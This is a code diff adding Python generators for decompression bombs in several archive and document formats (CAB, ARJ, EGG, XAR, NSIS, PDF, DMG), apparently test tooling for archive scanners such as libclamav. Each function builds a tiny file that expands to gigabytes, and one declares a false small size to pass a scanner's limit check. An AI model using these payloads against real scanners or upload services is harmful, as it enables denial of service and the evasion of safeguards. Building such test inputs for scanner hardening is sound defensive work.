@@ -133,3 +133,115 @@ def zip_bomb(size, method="bzip2"):
     end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central),
                       len(local) + len(data), 0)
     return local + data + central + end
+
+
+# Other formats (patch 0133): each a few bytes to ~2 MB, built without compressing a gigabyte.
+
+def cab_bomb(size):
+    """A cabinet of one file of size zero bytes (rounded up to 32 KiB, at most 2 GiB) in one MSZIP
+    folder: CFDATA blocks of 32 KiB each (no checksums), about 1.7 MB per GiB."""
+    import struct
+    n = -(-size // 32768)
+    assert n <= 0xFFFF
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    blk = b"CK" + c.compress(bytes(32768)) + c.flush()
+    data = struct.pack("<IHH", 0, len(blk), 32768) + blk
+    name = b"zeros\0"
+    first = 36 + 8 + 16 + len(name)
+    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, first + len(data) * n, 0, 44, 0, 3, 1, 1, 1, 0,
+                       0x1234, 0)
+    folder = struct.pack("<IHH", first, n, 1)            # 1: MSZIP
+    member = struct.pack("<IIHHHH", n * 32768, 0, 0, 0, 0, 0x20) + name
+    return head + folder + member + data * n
+
+
+def _arj_header(fixed, name):
+    import struct
+    basic = fixed + name + b"\0\0"                       # name, empty comment
+    return b"\x60\xea" + struct.pack("<H", len(basic)) + basic + struct.pack("<I", zlib.crc32(basic)) + b"\0\0"
+
+
+def arj_bomb(size):
+    """An ARJ archive (101 bytes) of one method-4 member of size bytes without compressed data:
+    unarj's bit reader gives zeros past a member's data, which method 4 decodes to zero bytes."""
+    import struct
+    main = struct.pack("<8B4I3H", 30, 11, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0)
+    member = struct.pack("<8B4I3H", 30, 11, 1, 0, 0, 4, 0, 0, 0, 0, size, 0, 0, 0, 0)
+    return _arj_header(main, b"bomb.arj") + _arj_header(member, b"zeros") + b"\x60\xea\0\0"
+
+
+def egg_bomb(size, declared=4096):
+    """An EGG archive of one file whose one deflate block expands to size zeros (rounded up to 16 MiB);
+    its headers say `declared` bytes (what libclamav checks against its limits first)."""
+    import struct
+    data, _ = deflate_bomb(size)
+    eof = struct.pack("<I", 0x08E28222)
+    return (struct.pack("<IHII", 0x41474745, 0x0100, 0x12345678, 0) + eof +
+            struct.pack("<IIQ", 0x0A8590E3, 0, declared) +
+            struct.pack("<IBH", 0x0A8591AC, 0, 5) + b"zeros" + eof +
+            struct.pack("<IBBIII", 0x02B50C13, 1, 0, declared, len(data), 0) + eof + data + eof)
+
+
+def xar_bomb(size):
+    """A xar archive of one file whose zlib ("application/x-gzip") data is size zeros (16 MiB steps)."""
+    import struct
+    data, size = deflate_bomb(size)
+    z = b"\x78\x9c" + data
+    toc = (b'<?xml version="1.0" encoding="UTF-8"?>\n<xar><toc><file id="1"><data><length>%d</length>'
+           b'<offset>0</offset><size>%d</size><encoding style="application/x-gzip"/></data>'
+           b'<name>zeros</name><type>file</type></file></toc></xar>\n' % (len(z), size))
+    ztoc = zlib.compress(toc)
+    return struct.pack(">IHHQQI", 0x78617221, 28, 1, len(ztoc), len(toc), 0) + ztoc + z
+
+
+@functools.lru_cache(maxsize=None)
+def nsis_bomb(size, solid=True):
+    """An "MZ" file holding an NSIS archive (zlib: raw deflate) of a 16-byte header block and one file
+    of size zero bytes: solid (one stream, each item after its size) or not (each item its own
+    stream). NSIS's inflate takes no stored block, so this one compresses the zeros (level 1: about
+    0.4 s and 1.1 MB per 256 MiB)."""
+    import struct
+    zero = bytes(min(size, _CHUNK))
+
+    def deflate(head, n):
+        c = zlib.compressobj(1, zlib.DEFLATED, -15)
+        out = [c.compress(head)]
+        while n > 0:
+            out.append(c.compress(zero[:min(n, len(zero))]))
+            n -= len(zero)
+        return b"".join(out) + c.flush()
+    if solid:
+        data = deflate(struct.pack("<I", 16) + bytes(16) + struct.pack("<I", size), size)
+    else:
+        items = [deflate(bytes(16), 0), deflate(b"", size)]
+        data = b"".join(struct.pack("<I", 0x80000000 | len(i)) + i for i in items)
+    first = struct.pack("<II", 0, 0xDEADBEEF) + b"NullsoftInst" + struct.pack("<II", 0x1c, 0x1c + len(data))
+    return b"MZ" + bytes(62) + first + data
+
+
+def pdf_bomb(size):
+    """A PDF of one FlateDecode stream of size zeros (16 MiB steps)."""
+    data, _ = deflate_bomb(size)
+    z = b"\x78\x9c" + data
+    body = (b"%PDF-1.4\n1 0 obj\n<< /Length " + str(len(z)).encode() + b" /Filter /FlateDecode >>\nstream\n" +
+            z + b"\nendstream\nendobj\n")
+    return (body + b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 >>\n"
+            b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n")
+
+
+def dmg_bomb(size):
+    """A DMG (1.7 KB) of one partition: one stored sector, then size zero bytes (512-byte steps) in
+    one zero-fill stripe, which takes no input at all."""
+    import base64
+    import struct
+    sectors = size // 512
+    mish = struct.pack(">IIQQQII24s136sI", 0x6d697368, 1, 0, sectors + 1, 0, 0, 0, bytes(24), bytes(136), 3)
+    mish += struct.pack(">IIQQQQ", 1, 0, 0, 1, 0, 512)                   # stored
+    mish += struct.pack(">IIQQQQ", 2, 0, 1, sectors, 0, 0)               # zero fill
+    mish += struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors + 1, 0, 0, 0)  # end
+    xml = (b'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>resource-fork</key>'
+           b'<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
+           b'<key>Data</key><data>' + base64.b64encode(mish) + b'</data><key>Name</key><string>z</string>'
+           b'</dict></array></dict></dict></plist>\n')
+    koly = struct.pack(">4sIII", b"koly", 4, 512, 1) + bytes(8 * 5 + 8 + 16 + 136) + struct.pack(">QQ", 512, len(xml))
+    return b"\x01" * 512 + xml + koly + bytes(512 - len(koly))
